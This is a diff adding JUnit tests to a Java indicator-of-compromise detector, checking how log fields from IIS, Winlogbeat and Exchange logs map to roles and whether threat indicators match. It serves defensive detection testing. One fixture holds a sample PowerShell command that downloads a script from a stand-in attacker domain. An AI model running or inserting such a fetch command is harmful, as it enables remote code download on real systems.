@@ -207,6 +207,61 @@ class MatchingTest {
     }
 
     @Test
+    void placementReadsTheFieldRoleTable() throws Exception {
+        Path f = dir.resolve("ips.txt");
+        Files.writeString(f, "203.0.113.10\n");
+        dwell.event.Event e = Events.of(Format.JSON, "attacker_ip", "203.0.113.10", "s-ip", "10.0.0.5");
+        assertEquals(0, IocDetector.load(List.of(f)).match(e).size(), "no role, and an address field keeps raw text out");
+        FieldPlacement taught = placement(dwell.event.TestRoles.withField(dwell.event.FieldRole.CLIENT_ADDRESS, "attacker_ip"));
+        assertEquals(List.of("attacker_ip"), IocDetector.load(List.of(f), taught).match(e).stream().map(Hit::field).toList());
+        assertEquals(Role.bit(Role.SOURCE_ADDRESS), taught.roles("ATTACKER_IP"), "a client address is a source address");
+        FieldPlacement builtin = FieldPlacement.builtin();
+        assertEquals(Role.bit(Role.DESTINATION_ADDRESS), builtin.roles("s-ip"));
+        assertEquals(Role.bit(Role.URL_PATH) | Role.bit(Role.PATH), builtin.roles("cs-uri-stem"), "a URL path is also a file's path");
+        assertEquals(Role.bit(Role.URL_QUERY) | Role.bit(Role.TEXT), builtin.roles("UrlQuery"), "a query is searched as text");
+        assertEquals(Role.bit(Role.TEXT), builtin.roles("CMD"), "the ECP server log's command");
+        assertEquals(Role.bit(Role.HOST), builtin.roles("UrlHost"), "HttpProxy's requested host is a host, not a URL");
+        assertEquals(Role.bit(Role.USER_AGENT), builtin.roles("UA"));
+        assertEquals(Role.bit(Role.EMAIL), builtin.roles("AnchorMailbox"));
+        assertEquals(Role.bit(Role.PATH), builtin.roles("winlog.event_data.ParentImage"));
+        assertEquals(0, builtin.roles("TargetUserName"), "accounts are no indicator type");
+    }
+
+    @Test
+    void winlogbeatEventDataIsReadByItsRoles() throws Exception {
+        IocDetector d = detector("domain,evil.example,\nip,203.0.113.10,\n");
+        assertEquals(List.of("winlog.event_data.CommandLine"), d.match(Events.of(Format.JSON, "winlog.event_data.CommandLine",
+                "powershell iwr https://x.evil.example/a.ps1", "winlog.event_data.DestinationIp", "10.0.0.1"))
+                .stream().map(Hit::field).toList(), "the command line, not the raw text");
+        assertEquals(0, d.match(Events.of(Format.JSON, "winlog.event_data.DestinationIp", "10.0.0.1",
+                "winlog.event_data.Details", "seen 203.0.113.10")).size(), "an event with an address field is not searched raw for addresses");
+    }
+
+    @Test
+    void aTableOfFieldRolesAndNamedFields() throws Exception {
+        Path f = dir.resolve("ips.txt");
+        Files.writeString(f, "203.0.113.10\n");
+        String yaml = "field-roles:\n  source-address: [client-address]\nroles:\n  source-address: [vpn_client]\n"
+                + "types:\n  ipv4: {roles: [source-address], raw-fallback: false}\n";
+        FieldPlacement p = FieldPlacement.load(new java.io.ByteArrayInputStream(yaml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
+        IocDetector d = IocDetector.load(List.of(f), p);
+        assertEquals(1, d.match(Events.iis("c-ip", "203.0.113.10")).size());
+        assertEquals(1, d.match(Events.of(Format.JSON, "winlog.event_data.VPN_Client", "203.0.113.10")).size());
+        assertEquals(0, d.match(Events.of(Format.JSON, "DestinationIp", "203.0.113.10")).size());
+        java.io.IOException bad = org.junit.jupiter.api.Assertions.assertThrows(java.io.IOException.class, () -> FieldPlacement.load(
+                new java.io.ByteArrayInputStream("field-roles:\n  host: [hostess]\ntypes: {}\n".getBytes(java.nio.charset.StandardCharsets.UTF_8))));
+        assertTrue(bad.getMessage().contains("hostess"), bad.getMessage());
+        org.junit.jupiter.api.Assertions.assertThrows(java.io.IOException.class, () -> FieldPlacement.load(
+                new java.io.ByteArrayInputStream("types: {}\n".getBytes(java.nio.charset.StandardCharsets.UTF_8))));
+    }
+
+    private static FieldPlacement placement(dwell.event.FieldRoles roles) throws Exception {
+        try (java.io.InputStream in = FieldPlacement.class.getResourceAsStream("/dwell/ioc/placement.yaml")) {
+            return FieldPlacement.load(in, roles);
+        }
+    }
+
+    @Test
     void sharedBetweenThreads() throws Exception {
         IocDetector d = detector("ip,203.0.113.10,\ndomain,evil.example,\n");
         java.util.concurrent.atomic.AtomicInteger findings = new java.util.concurrent.atomic.AtomicInteger();
